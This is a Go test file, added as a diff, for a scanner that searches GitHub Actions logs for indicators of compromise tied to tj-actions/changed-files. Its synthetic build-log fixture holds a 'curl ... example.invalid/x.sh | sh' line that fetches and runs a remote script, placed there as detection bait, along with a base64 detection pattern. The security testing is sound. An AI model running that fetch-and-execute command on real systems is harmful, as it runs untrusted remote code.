@@ -0,0 +1,181 @@
+package workflow_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+	"github.com/google/go-github/v86/github"
+)
+
+// The image build fixture hides one IOC digest and one base64 payload
+// at the end of a long BuildKit log, after a progress line redrawn
+// with carriage returns, so only a scan of the whole job log finds
+// them.
+const (
+	buildLogDigest  = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
+	buildLogPayload = "ghscan fixture: secret leaked by a malicious base image layer"
+	buildLogLines   = 20000
+)
+
+// dockerBuildLog returns the log of an image build job in GitHub's
+// timestamped format, with the fixture's hits after buildLogLines
+// lines of build output.
+func dockerBuildLog() string {
+	encoded := "Z2hzY2FuIGZpeHR1cmU6IHNlY3JldCBsZWFrZWQgYnkgYSBtYWxpY2lvdXMgYmFzZSBpbWFnZSBsYXllcg=="
+	var b strings.Builder
+	b.WriteString("2025-03-14T12:00:00.0000000Z ##[group]Run docker/build-push-action@v6\n")
+	for i := range buildLogLines {
+		fmt.Fprintf(&b, "2025-03-14T12:00:01.0000000Z #%d %d.%03d RUN npm ci --omit=dev # layer output %d\n", 5+i/1000, i/1000, i%1000, i)
+	}
+	b.WriteString("2025-03-14T12:00:02.0000000Z #9 sha256:4f4fb700 1.05MB / 31.4MB\r#9 sha256:4f4fb700 15.7MB / 31.4MB\r#9 sha256:4f4fb700 31.4MB / 31.4MB done\n")
+	b.WriteString("2025-03-14T12:00:03.0000000Z #12 0.412 + curl -sSf https://example.invalid/x.sh | sh # tj-actions/changed-files@" + buildLogDigest + "\n")
+	b.WriteString("2025-03-14T12:00:03.0000000Z #12 0.913 " + encoded + "\n")
+	b.WriteString("2025-03-14T12:00:04.0000000Z #13 exporting to image\n")
+	b.WriteString("2025-03-14T12:00:04.0000000Z ##[endgroup]\n")
+	return b.String()
+}
+
+// buildLogIOC returns the tj-actions IOC with the base64 pattern, as
+// config.yaml documents it.
+func buildLogIOC(t *testing.T) *ioc.IOC {
+	t.Helper()
+	predef, ok := ioc.GetPredefinedIOC("tj-actions/changed-files")
+	if !ok {
+		t.Fatal("predefined IOC tj-actions/changed-files missing")
+	}
+	findIOC, err := ioc.NewIOC(&ioc.Config{
+		Name:    "tj-actions/changed-files",
+		Content: predef.GetContent(),
+		Pattern: `(?:^|\s+)([A-Za-z0-9+/]{40,}={0,3})`,
+	})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	return findIOC
+}
+
+// assertBuildLogHits fails unless findings include both fixture hits.
+func assertBuildLogHits(t *testing.T, findings []workflow.Finding) {
+	t.Helper()
+	var digest, payload bool
+	for _, f := range findings {
+		digest = digest || (f.Encoded == "" && f.MatchedPattern == buildLogDigest)
+		payload = payload || f.Decoded == buildLogPayload
+	}
+	if !digest || !payload {
+		t.Fatalf("digest found=%v, payload found=%v, want both from the end of the build log; findings=%+v", digest, payload, findings)
+	}
+}
+
+// TestExtractLogs_MultiJobBuildLog asserts every member of a run
+// archive is scanned, including a long image build job and the
+// per-step files GitHub adds alongside each job's log.
+func TestExtractLogs_MultiJobBuildLog(t *testing.T) {
+	t.Parallel()
+
+	build := dockerBuildLog()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, body := range map[string]string{
+		"0_lint.txt":                       "2025-03-14T12:00:00.0000000Z golangci-lint run\n",
+		"1_build-image.txt":                build,
+		"build-image/4_Build and push.txt": build,
+		"2_test.txt":                       "2025-03-14T12:00:00.0000000Z go test ./...\n",
+	} {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatalf("zip create %s: %v", name, err)
+		}
+		if _, err := io.WriteString(w, body); err != nil {
+			t.Fatalf("zip write %s: %v", name, err)
+		}
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatalf("zip close: %v", err)
+	}
+
+	logText, err := workflow.ExtractLogs(bytes.NewReader(buf.Bytes()))
+	if err != nil {
+		t.Fatalf("ExtractLogs: %v", err)
+	}
+	for _, want := range []string{"golangci-lint run", "layer output 19999", "go test ./..."} {
+		if !strings.Contains(logText, want) {
+			t.Fatalf("extracted logs missing %q", want)
+		}
+	}
+	findings, found := workflow.ParseLogs(newTestLogger(), logText, 1, buildLogIOC(t))
+	if !found {
+		t.Fatal("ParseLogs found nothing in the build log")
+	}
+	assertBuildLogHits(t, findings)
+}
+
+// TestGetLogs_FallbackLongBuildLog asserts the per-job fallback
+// returns the whole log of a long image build job, not a prefix, so
+// its hits are scanned.
+func TestGetLogs_FallbackLongBuildLog(t *testing.T) {
+	t.Parallel()
+
+	build := dockerBuildLog()
+	var server *httptest.Server
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case strings.HasSuffix(r.URL.Path, "/actions/runs/300/jobs"):
+			w.Header().Set("Content-Type", "application/json")
+			_ = json.NewEncoder(w).Encode(github.Jobs{
+				TotalCount: new(2),
+				Jobs: []*github.WorkflowJob{
+					{ID: new(int64(31)), Name: new("lint"), Status: new("completed")},
+					{ID: new(int64(32)), Name: new("build-image"), Status: new("completed")},
+				},
+			})
+		case strings.HasSuffix(r.URL.Path, "/actions/runs/300/logs"):
+			w.WriteHeader(http.StatusGone)
+		case strings.HasSuffix(r.URL.Path, "/actions/runs/300"):
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, runStatusBody("completed", "success"))
+		case strings.HasSuffix(r.URL.Path, "/actions/jobs/31/logs"):
+			w.Header().Set("Location", server.URL+"/raw/job-31.txt")
+			w.WriteHeader(http.StatusFound)
+		case strings.HasSuffix(r.URL.Path, "/actions/jobs/32/logs"):
+			w.Header().Set("Location", server.URL+"/raw/job-32.txt")
+			w.WriteHeader(http.StatusFound)
+		case strings.HasSuffix(r.URL.Path, "/raw/job-31.txt"):
+			_, _ = io.WriteString(w, "2025-03-14T12:00:00.0000000Z golangci-lint run\n")
+		case strings.HasSuffix(r.URL.Path, "/raw/job-32.txt"):
+			w.Header().Set("Content-Type", "text/plain")
+			_, _ = io.WriteString(w, build)
+		default:
+			t.Errorf("unexpected path: %s", r.URL.Path)
+			w.WriteHeader(http.StatusNotFound)
+		}
+	})
+	server = httptest.NewServer(mux)
+	t.Cleanup(server.Close)
+
+	gh, hc := newTestClients(t, server)
+	rc, err := workflow.GetLogs(t.Context(), newTestLogger(), hc, gh, "o", "r", 300, "tok")
+	if err != nil {
+		t.Fatalf("GetLogs: %v", err)
+	}
+	t.Cleanup(func() { _ = rc.Close() })
+	body, err := io.ReadAll(rc)
+	if err != nil {
+		t.Fatalf("read logs: %v", err)
+	}
+	if !bytes.Contains(body, []byte(build)) {
+		t.Fatalf("combined logs (%d bytes) do not contain the whole %d-byte build log", len(body), len(build))
+	}
+	findings, _ := workflow.ParseLogs(newTestLogger(), string(body), 300, buildLogIOC(t))
+	assertBuildLogHits(t, findings)
+}